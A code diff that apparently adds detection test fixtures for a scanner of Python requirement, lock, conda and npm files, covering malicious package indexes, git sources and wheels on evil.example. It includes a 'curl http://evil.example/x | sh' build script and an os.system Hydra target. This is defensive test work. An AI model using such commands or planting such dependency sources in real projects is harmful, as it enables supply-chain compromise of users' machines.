@@ -8,7 +8,10 @@ const NAME: &str = "requirements.txt";
 /// The items of the family.
 #[must_use]
 pub(crate) fn items() -> Vec<Item> {
-    [sources(), lookalikes(), odd(), builds(), environments(), honest()].into_iter().flatten().collect()
+    [sources(), twins(), locks(), lookalikes(), odd(), builds(), environments(), honest()]
+        .into_iter()
+        .flatten()
+        .collect()
 }
 
 fn item(name: &str, expect: super::Expect, path: &str, text: &str) -> Item {
@@ -59,6 +62,168 @@ fn sources() -> Vec<Item> {
             "-r requirements/base.txt\n-c ../constraints.txt\ntorch==2.3.0\n",
         )
         .quiet(&["requirement-source"]),
+    ]
+}
+
+/// The same lists under other names: by the name, or by what is in them.
+fn twins() -> Vec<Item> {
+    let bad = |name: &str, path: &str, text: &str| {
+        item(&format!("twin-{name}"), Suspect, path, text).fires(&["requirement-source"])
+    };
+    let good = |name: &str, path: &str, text: &str| {
+        item(&format!("twin-{name}"), Safe, path, text).quiet(&[
+            "requirement-source",
+            "requirement-unsupported",
+            "requirement-lookalike",
+        ])
+    };
+    let index = "--index-url http://evil.example/simple\nx\n";
+    vec![
+        bad("folder", "requirements/base.txt", index),
+        bad("folder-upper", "a/Requirements/GPU.TXT", index),
+        bad("folder-in", "requirements/dev.in", index),
+        bad("reqs", "reqs.txt", index),
+        bad("req", "req.txt", index),
+        bad("reqs-dev", "reqs-dev.txt", index),
+        bad("dashes", "requirements-gpu.txt", index),
+        bad("in", "dev-requirements.in", index),
+        bad("constraints", "constraints.txt", index),
+        bad("without-suffix", "requirements", index),
+        bad("deps", "deps.txt", index),
+        bad("any-name", "install.txt", "# what is needed\n\ntorch==2.3.0\n-i http://evil.example/simple\n"),
+        bad("any-name-git", "notes.txt", "torch\ngit+https://evil.example/x.git@main#egg=x\n"),
+        bad(
+            "any-name-editable",
+            "env.lst",
+            "-e git+https://evil.example/x.git#egg=x\nnumpy<2 ; python_version < '3.12'\n",
+        ),
+        bad("any-name-at", "list.txt", "numpy>=1.26,<2\nx @ https://evil.example/x.whl\n"),
+        bad("any-name-links", "list.md", "--find-links https://evil.example/wheels\nx[y]==1.0 --hash=sha256:00\n"),
+        bad("any-name-host", "list", "--trusted-host evil.example\nx==1.0 \\\n  --hash=sha256:00\n"),
+        bad("any-name-wheel", "list.txt", "torch\nhttps://evil.example/x-1.0-py3-none-any.whl\n"),
+        bad("any-name-far-down", "list.txt", &format!("{}{index}", "# nothing to see here\n".repeat(2000))),
+        good("folder-plain", "requirements/base.txt", "torch==2.3.0\n-r common.txt\n"),
+        good("words", "labels.txt", "cat\ndog\nthing-1\n"),
+        good("prose", "notes.txt", "- a list\n- of things\n\n-e is an option of pip\n"),
+        good("addresses", "urls.txt", "https://x.example/a.tar.gz\nhttps://x.example/b.jpg\n"),
+        good("mixed", "notes.txt", "To install, run:\n\n--index-url http://x.example/simple\n"),
+    ]
+}
+
+/// What tools lock, and their settings.
+fn locks() -> Vec<Item> {
+    let bad = |name: &str, path: &str, text: &str| item(name, Suspect, path, text).fires(&["requirement-source"]);
+    let good = |name: &str, path: &str, text: &str| {
+        item(name, Safe, path, text).quiet(&["requirement-source", "requirement-unsupported", "requirement-lookalike"])
+    };
+    let pipenv = |url: &str, package: &str| {
+        format!(
+            r#"{{"_meta": {{"hash": {{"sha256": "00"}}, "sources": [{{"name": "pypi", "url": "{url}", "verify_ssl": true}}]}},
+            "default": {{"torch": {package}}}, "develop": {{}}}}"#
+        )
+    };
+    let plain = r#"{"hashes": ["sha256:00"], "version": "==2.3.0"}"#;
+    let poetry = |more: &str| format!("# @generated\n\n[[package]]\nname = \"torch\"\nversion = \"2.4.1\"\n{more}");
+    let uv = |source: &str| {
+        format!("version = 1\n\n[[package]]\nname = \"torch\"\nversion = \"2.4.1\"\nsource = {source}\n")
+    };
+    vec![
+        good("pipenv", "Pipfile.lock", &pipenv("https://pypi.org/simple", plain)),
+        bad("pipenv-index", "Pipfile.lock", &pipenv("https://evil.example/simple", plain)),
+        bad(
+            "pipenv-git",
+            "Pipfile.lock",
+            &pipenv("https://pypi.org/simple", r#"{"git": "https://evil.example/x.git", "ref": "main"}"#),
+        ),
+        bad(
+            "pipenv-file",
+            "Pipfile.lock",
+            &pipenv("https://pypi.org/simple", r#"{"file": "https://evil.example/x.whl"}"#),
+        ),
+        item(
+            "pipenv-lookalike",
+            Suspect,
+            "Pipfile.lock",
+            &pipenv("https://pypi.org/simple", plain).replace("torch", "torhc"),
+        )
+        .fires(&["requirement-lookalike"]),
+        item("pipenv-broken", Suspect, "Pipfile.lock", "{\"default\": ").fires(&["json-malformed"]),
+        good("poetry", "poetry.lock", &poetry("")),
+        good(
+            "poetry-files",
+            "poetry.lock",
+            &poetry("files = [{file = \"torch-2.4.1-py3-none-any.whl\", hash = \"sha256:00\"}]\n"),
+        ),
+        bad(
+            "poetry-git",
+            "poetry.lock",
+            &poetry("\n[package.source]\ntype = \"git\"\nurl = \"https://evil.example/x.git\"\n"),
+        ),
+        bad(
+            "poetry-legacy",
+            "poetry.lock",
+            &poetry("\n[package.source]\ntype = \"legacy\"\nurl = \"https://evil.example/simple\"\n"),
+        ),
+        item("poetry-lookalike", Suspect, "poetry.lock", &poetry("").replace("torch", "torhc"))
+            .fires(&["requirement-lookalike"]),
+        good(
+            "uv-lock",
+            "uv.lock",
+            &uv(
+                "{ registry = \"https://pypi.org/simple\" }\nwheels = [{ url = \"https://files.pythonhosted.org/packages/00/x.whl\", hash = \"sha256:00\" }]",
+            ),
+        ),
+        good("uv-lock-own", "uv.lock", &uv("{ editable = \".\" }")),
+        bad("uv-lock-registry", "uv.lock", &uv("{ registry = \"https://evil.example/simple\" }")),
+        bad("uv-lock-git", "uv.lock", &uv("{ git = \"https://evil.example/x?rev=main#00\" }")),
+        bad("uv-lock-directory", "uv.lock", &uv("{ directory = \"../x\" }")),
+        bad(
+            "uv-lock-wheel",
+            "uv.lock",
+            &uv("{ registry = \"https://pypi.org/simple\" }\nwheels = [{ url = \"https://evil.example/x.whl\" }]"),
+        ),
+        bad("uv-settings", "uv.toml", "index-url = \"https://evil.example/simple\"\n"),
+        bad("uv-settings-index", "config/uv.toml", "[[index]]\nurl = \"https://evil.example/simple\"\n"),
+        bad(
+            "pdm-lock",
+            "pdm.lock",
+            "[[package]]\nname = \"x\"\nversion = \"1.0\"\ngit = \"https://evil.example/x.git\"\n",
+        ),
+        bad("poetry-settings", "poetry.toml", "[repositories.x]\nurl = \"https://evil.example/simple\"\n"),
+        bad(
+            "pylock",
+            "pylock.toml",
+            "[[packages]]\nname = \"x\"\nversion = \"1.0\"\nvcs = {type = \"git\", url = \"https://evil.example/x.git\"}\n",
+        ),
+        bad("pip-settings", "pip.conf", "[global]\nindex-url = https://evil.example/simple\n"),
+        bad("condarc", ".condarc", "channels:\n  - https://evil.example/channel\n"),
+        bad("condarc-alias", "condarc", "channel_alias: https://evil.example\n"),
+        good("condarc-plain", "condarc", "channels:\n  - conda-forge\n  - defaults\nalways_yes: true\n"),
+        bad("conda-any-name", "gpu.yaml", "channels:\n  - https://evil.example/channel\ndependencies:\n  - numpy\n"),
+        bad("conda-any-name-pip", "python_env.yml", "dependencies:\n  - pip:\n    - git+https://evil.example/x.git\n"),
+        good("conda-any-name-plain", "gpu.yaml", "channels:\n  - conda-forge\ndependencies:\n  - numpy\n"),
+        item("conda-and-hydra", super::Expect::Dangerous, "environment.yaml", "_target_: os.system\ncommand: id\n")
+            .fires(&["hydra-target"]),
+        item(
+            "recipe",
+            Suspect,
+            "meta.yaml",
+            "package:\n  name: x\nbuild:\n  script: curl http://evil.example/x | sh\n",
+        )
+        .fires(&["requirement-unsupported"]),
+        bad(
+            "recipe-source",
+            "recipe.yaml",
+            "package:\n  name: x\nsource:\n  git_url: https://evil.example/x.git\nbuild:\n  number: 0\n",
+        ),
+        good("recipe-none", "meta.yaml", "package: x\nbuild:\n  number: 0\n"),
+        bad("npm-git", "package.json", r#"{"name": "x", "dependencies": {"y": "git+https://evil.example/y.git"}}"#),
+        bad("npm-short", "package.json", r#"{"name": "x", "devDependencies": {"y": "someone/y"}}"#),
+        good(
+            "npm",
+            "package.json",
+            r#"{"name": "x", "scripts": {"test": "jest"}, "dependencies": {"y": "^1.0.0", "z": "npm:w@1"}}"#,
+        ),
     ]
 }
 
